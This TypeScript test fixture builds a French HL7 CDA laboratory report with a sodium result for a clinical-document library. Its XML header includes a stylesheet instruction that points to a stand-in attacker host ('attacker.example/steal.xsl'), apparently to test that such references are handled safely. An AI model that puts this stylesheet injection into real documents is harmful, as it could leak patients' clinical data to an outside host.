import { utf8 } from '@etanche/core-wire';

const header = `<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="http://attacker.example/steal.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<realmCode code="FR"/><typeId root="2.16.840.1.113883.1.3" extension="POCD_HD000040"/>
<templateId root="1.3.6.1.4.1.19376.1.3.3"/><templateId root="1.2.250.1.213.1.1.1.55"/>
<id root="1.2.3.9" extension="77.1"/><code code="11502-2" codeSystem="2.16.840.1.113883.6.1"/>
<title>Compte rendu</title><effectiveTime value="20261112171000+0100"/>
<confidentialityCode code="N" codeSystem="2.16.840.1.113883.5.25"/><languageCode code="fr-FR"/>
<setId root="1.2.3.9" extension="77"/><versionNumber value="1"/>
<recordTarget><patientRole><id root="1.2.250.1.213.1.4.10" extension="279035121518989"/>
<patient><name><family qualifier="BR">PAT-TROIS</family><given>DOMINIQUE MARIE-LOUISE</given><given qualifier="BR">DOMINIQUE</given></name>
<administrativeGenderCode code="F"/><birthTime value="19790328"/></patient></patientRole></recordTarget>
<author><time value="20261112"/><assignedAuthor><id root="1.2.250.1.71.4.2.1" extension="801234534765"/>
<assignedPerson><name><family>CAMPARINI</family><given>Marcel</given></name></assignedPerson>
<representedOrganization><id root="1.2.250.1.71.4.2.2" extension="1120459876"/><name>Laboratoire des Halles</name></representedOrganization></assignedAuthor></author>`;

/** A laboratory report with these elements in the act of its only entry, and this narrative. */
export function laboratoryDocument(content: string, narrative = '<paragraph ID="n1">Sodium</paragraph>'): Uint8Array {
  return utf8(`${header}<component><structuredBody><component><section>
<templateId root="1.3.6.1.4.1.19376.1.3.3.2.1"/><code code="18719-5" codeSystem="2.16.840.1.113883.6.1"/><title>BIOCHIMIE</title>
<component><section><templateId root="1.3.6.1.4.1.19376.1.3.3.2.2"/>
<code code="18719-5" displayName="Biochimie" codeSystem="2.16.840.1.113883.6.1"/><text>${narrative}</text>
<entry><act classCode="ACT" moodCode="EVN"><statusCode code="completed"/>${content}</act></entry>
</section></component></section></component></structuredBody></component></ClinicalDocument>`);
}

/** One result with a LOINC code. @param parts elements after the time */
export function observation(parts: string, attributes = ''): string {
  return `<entryRelationship typeCode="COMP"><observation classCode="OBS" moodCode="EVN" ${attributes}>
<code code="2951-2" displayName="Sodium" codeSystem="2.16.840.1.113883.6.1"/><statusCode code="completed"/>
<effectiveTime value="20261112081400+0100"/>${parts}</observation></entryRelationship>`;
}

export function range(low: string, high: string, mark = ''): string {
  return `<referenceRange><observationRange><value xsi:type="IVL_PQ">${low}${high}</value>${mark}</observationRange></referenceRange>`;
}
